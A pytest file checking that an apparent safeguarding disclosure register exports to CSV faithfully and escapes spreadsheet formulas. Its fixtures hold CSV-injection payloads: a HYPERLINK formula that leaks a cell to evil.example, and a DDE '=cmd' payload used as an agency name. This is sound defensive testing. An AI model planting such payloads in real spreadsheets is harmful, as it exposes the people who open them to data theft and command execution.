"""The register as a CSV file: it parses back to the JSON register, and no cell is a formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from typing import Any
from uuid import UUID

import pytest

from projections.register_export import CSV_COLUMNS, read_csv
from tests.api_client import Api
from tests.sharing_support import (
    AGENCY_TYPES,
    CHILDRENS,
    POLICE,
    SCHOOL,
    at_meeting,
    disclosure,
    register_agencies,
)
from tests.support import FixedClock

# What an attacker, or an unlucky clerk, might type where a spreadsheet looks for formulas.
HOSTILE_ADVICE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the case")',
    "+44 1603 000000 before storing",
    "-restricted- keep locked",
    "@SUM(A1:A9)",
    "'already quoted",
    "''twice quoted",
    'Store in the "locked", fire-proof cabinet;\nsecond line; comma, quote " and tab\tinside',
    "Café ☕ — keep in the secure room",
)
HOSTILE_AGENCY = '=cmd|" /C calc"!A0 Academy'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def register(api: Api, clock: FixedClock) -> dict[str, Any]:
    """The police register after one meeting-disclosure per hostile piece of advice."""
    agencies = register_agencies(api)
    created = api.client.post(
        "/agencies",
        json={"name": HOSTILE_AGENCY, "agency_type": "education"},
        headers=api.headers("triage-1"),
    )
    assert created.status_code == 201, created.text
    hostile = UUID(created.json()["agency_id"])
    referral_id = at_meeting(api, clock, agencies)
    api.ok(referral_id, "strategy-meeting/invitations", {"agency_id": str(hostile)}, by="chair-1")
    for number, advice in enumerate(HOSTILE_ADVICE):
        recipients = [agencies[SCHOOL], hostile] if number % 2 else [agencies[CHILDRENS]]
        body = disclosure(
            agencies[POLICE], recipients, context="strategy_meeting", handling_advice=advice
        )
        api.ok(referral_id, "disclosures", body, by="police-1")
    received = disclosure(agencies[CHILDRENS], [agencies[POLICE]], context="strategy_meeting")
    position = api.ok(referral_id, "disclosures", received, by="cs-1")["position"]
    return {"police": agencies[POLICE], "hostile": hostile, "position": position}


def export(api: Api, agency_id: UUID, output: str, **params: Any) -> Any:
    response = api.client.get(
        f"/agencies/{agency_id}/disclosure-register",
        params={"format": output, **params},
        headers=api.headers("hos-1"),
    )
    assert response.status_code == 200, response.text
    return response


def as_csv_cells(row: dict[str, Any]) -> dict[str, str]:
    """A JSON register row written the way the CSV columns are documented in docs/api.md."""
    bases = row["legal_bases"]
    yes_no = {True: "yes", False: "no"}
    return {
        "direction": row["direction"],
        "reference": row["reference"],
        "referral_id": row["referral_id"],
        "disclosure_no": str(row["disclosure_no"]),
        "context": row["context"],
        "disclosing_agency": row["disclosing_agency"]["name"],
        "disclosing_agency_type": row["disclosing_agency"]["agency_type"],
        "disclosing_agency_id": row["disclosing_agency"]["agency_id"],
        "recipient_agency": row["recipient_agency"]["name"],
        "recipient_agency_type": row["recipient_agency"]["agency_type"],
        "recipient_agency_id": row["recipient_agency"]["agency_id"],
        "information_category": row["information_category"],
        "special_category": yes_no[row["special_category"]],
        "legal_basis_ids": "; ".join(b["entry_id"] for b in bases),
        "legal_basis_citations": "; ".join(b["citation"] for b in bases),
        "legal_basis_catalogues": "; ".join(
            f"{b['catalogue']} {b['catalogue_version']}" for b in bases
        ),
        "relies_on_consent": yes_no[row["relies_on_consent"]],
        "consent_status": row["consent_status"],
        "particularly_sensitive": yes_no[row["particularly_sensitive"]],
        "handling_advice": row["handling_advice"],
        "purpose": row["purpose"],
        "decided_by": row["decided_by"],
        "decided_by_role": row["decided_by_role"],
        "decided_by_agency": row["decided_by_agency"],
        "log_position": str(row["position"]),
    }


def without_times(row: dict[str, str]) -> dict[str, str]:
    return {k: v for k, v in row.items() if k not in {"disclosed_at", "recorded_at"}}


def test_the_csv_parses_back_to_the_json_register(api: Api, register: dict[str, Any]) -> None:
    police, position = register["police"], register["position"]
    rows = export(api, police, "json", after_position=position).json()["rows"]
    assert len(rows) == 1 + len(HOSTILE_ADVICE) + len(HOSTILE_ADVICE) // 2
    assert {row["handling_advice"] for row in rows} >= set(HOSTILE_ADVICE)
    assert {row["recipient_agency"]["name"] for row in rows} >= {HOSTILE_AGENCY}

    response = export(api, police, "csv")
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"].startswith(
        f'attachment; filename="disclosure-register-{police}-'
    )
    parsed = read_csv(response.content.decode("utf-8"))

    assert len(parsed) == len(rows)
    assert list(parsed[0]) == list(CSV_COLUMNS)
    for got, row in zip(parsed, rows, strict=True):
        assert without_times(got) == as_csv_cells(row)
        assert datetime.fromisoformat(got["disclosed_at"]) == datetime.fromisoformat(
            row["disclosed_at"]
        )
        assert datetime.fromisoformat(got["recorded_at"]) == datetime.fromisoformat(
            row["recorded_at"]
        )


def test_no_cell_reaches_a_spreadsheet_as_a_formula(api: Api, register: dict[str, Any]) -> None:
    raw = export(api, register["police"], "csv", after_position=register["position"]).content
    text = raw.decode("utf-8")
    assert raw.startswith("\ufeff".encode()), "a byte-order mark, so spreadsheets read UTF-8"
    assert text.count("\r\n") >= len(HOSTILE_ADVICE), "CRLF line ends"

    cells = [cell for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"))) for cell in row]
    assert cells, "the export has cells"
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert dangerous == []
    assert f"'{HOSTILE_ADVICE[0]}" in cells
    assert f"'{HOSTILE_AGENCY}" in cells
    assert "'''twice quoted" in cells, "an apostrophe already there gains one, so reading is exact"
    assert HOSTILE_ADVICE[-1] in cells, "ordinary text is left alone"


def test_the_hostile_agency_reads_its_own_register_back_exactly(
    api: Api, register: dict[str, Any]
) -> None:
    hostile = register["hostile"]
    rows = export(api, hostile, "json", after_position=register["position"]).json()["rows"]
    parsed = read_csv(export(api, hostile, "csv").content.decode("utf-8"))
    assert [without_times(row) for row in parsed] == [as_csv_cells(row) for row in rows]
    assert {row["direction"] for row in parsed} == {"received"}
    assert {row["recipient_agency"] for row in parsed} == {HOSTILE_AGENCY}
    assert AGENCY_TYPES[POLICE] in {row["disclosing_agency_type"] for row in parsed}
